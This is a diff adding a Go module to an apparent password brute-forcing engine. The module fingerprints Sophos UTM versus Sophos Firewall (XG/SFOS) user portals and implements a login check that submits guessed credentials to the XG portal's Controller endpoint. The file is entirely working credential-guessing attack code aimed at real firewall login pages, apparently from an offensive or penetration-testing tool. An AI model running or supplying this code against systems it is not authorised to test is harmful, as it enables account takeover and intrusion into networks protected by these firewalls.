@@ -0,0 +1,114 @@
+package bruteforce
+
+import (
+	"context"
+	"encoding/json"
+	"io"
+	"net/http"
+	"net/url"
+	"strconv"
+	"strings"
+	"time"
+)
+
+// Sophos portal variants: the UTM user portal and the user portal of
+// Sophos Firewall (XG, SFOS).
+const (
+	SophosUTM = "utm"
+	SophosXG  = "xg"
+)
+
+// Sophos endpoints. The XG portal page logs in through its controller.
+const (
+	sophosLoginPage  = "/userportal/webpages/myaccount/login.jsp"
+	sophosController = "/userportal/Controller"
+	sophosLoginMode  = "451"
+)
+
+// sophosXGPage marks the login page of Sophos Firewall.
+var sophosXGPage = newBodyMatcher([]string{"/userportal/Controller", "Sophos Firewall"}, nil, nil)
+
+// sophosVariant returns the portal variant of the Sophos at base,
+// detected once per host and port from its login page.
+func (e *Engine) sophosVariant(ctx context.Context, base string, buf []byte) (string, error) {
+	host := base
+	if u, err := url.Parse(base); err == nil {
+		host = strings.ToLower(u.Host)
+	}
+	if v, ok := e.sophosPortal.Load(host); ok {
+		return v.(string), nil
+	}
+
+	req, err := http.NewRequestWithContext(ctx, http.MethodGet, base+sophosLoginPage, nil)
+	if err != nil {
+		return "", err
+	}
+	req.Header.Set("User-Agent", e.userAgent())
+	req.Close = true
+	hr, err := e.doRequest(req)
+	if err != nil {
+		return "", err
+	}
+	defer hr.Body.Close()
+	page, err := sophosXGPage.scan(hr, buf, &Response{})
+	if err != nil {
+		return "", err
+	}
+
+	variant := SophosUTM
+	if page.final {
+		variant = SophosXG
+	}
+	e.sophosPortal.Store(host, variant)
+	return variant, nil
+}
+
+// checkSophosXG logs in to the user portal of Sophos Firewall, which takes
+// the credentials as JSON and answers with a JSON status, 200 for a valid
+// login.
+func (e *Engine) checkSophosXG(ctx context.Context, base string, cred Credential, password string, resp *Response) (bool, error) {
+	login, err := json.Marshal(map[string]interface{}{
+		"username":     cred.Username,
+		"password":     password,
+		"languageid":   "1",
+		"browser":      "Chrome_120",
+		"accessaction": 1,
+		"AKey":         "",
+	})
+	if err != nil {
+		return false, err
+	}
+	form := url.Values{
+		"mode":          {sophosLoginMode},
+		"json":          {string(login)},
+		"__RequestType": {"ajax"},
+		"t":             {strconv.FormatInt(time.Now().UnixMilli(), 10)},
+	}
+	req, err := http.NewRequestWithContext(ctx, http.MethodPost, base+sophosController, strings.NewReader(form.Encode()))
+	if err != nil {
+		return false, err
+	}
+	req.Header.Set("Content-Type", "application/x-www-form-urlencoded; charset=UTF-8")
+	req.Header.Set("X-Requested-With", "XMLHttpRequest")
+	req.Header.Set("User-Agent", e.userAgent())
+	req.Header.Set("Connection", "close")
+	req.Close = true
+
+	hr, err := e.doRequest(req)
+	if err != nil {
+		return false, err
+	}
+	defer hr.Body.Close()
+	resp.StatusCode = hr.StatusCode
+	if hr.StatusCode != http.StatusOK {
+		return false, nil
+	}
+
+	var answer struct {
+		Status json.RawMessage `json:"status"`
+	}
+	if json.NewDecoder(io.LimitReader(hr.Body, maxBodyScan)).Decode(&answer) != nil {
+		return false, nil
+	}
+	return strings.Trim(string(answer.Status), `"`) == "200", nil
+}